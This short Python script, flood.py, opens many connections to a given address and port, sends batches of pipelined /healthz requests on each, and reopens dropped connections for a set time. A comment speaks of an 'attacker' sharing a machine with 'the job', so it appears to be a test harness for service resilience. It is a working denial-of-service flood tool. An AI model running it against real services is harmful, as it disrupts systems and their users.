"""Strangers at a job's rendezvous:      flood.py ADDRESS:PORT CONNECTIONS SECONDS

Keeps so many connections open and asks for /healthz on all of them at once, many times before it reads an
answer; connections that are closed are opened again. Ends after SECONDS, or when nobody listens any more.
"""
import selectors
import socket
import sys
import time

BATCH = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 16
PAUSE_S = 0.02  # the job and the attacker share a machine


def connect(address):
    connection = socket.create_connection(address, timeout=1)
    connection.setblocking(False)
    return connection


def main(where, connections, seconds):
    host, _, port = where.rpartition(":")
    address = (host.strip("[]"), int(port))
    deadline = time.monotonic() + seconds
    selector = selectors.DefaultSelector()
    while time.monotonic() < deadline:
        while len(selector.get_map()) < connections:
            try:
                selector.register(connect(address), selectors.EVENT_READ)
            except ConnectionRefusedError:
                return
            except OSError:
                break
        for key in list(selector.get_map().values()):
            try:
                key.fileobj.send(BATCH)
                while key.fileobj.recv(1 << 16):
                    pass
                raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                selector.unregister(key.fileobj)
                key.fileobj.close()
        time.sleep(PAUSE_S)


main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
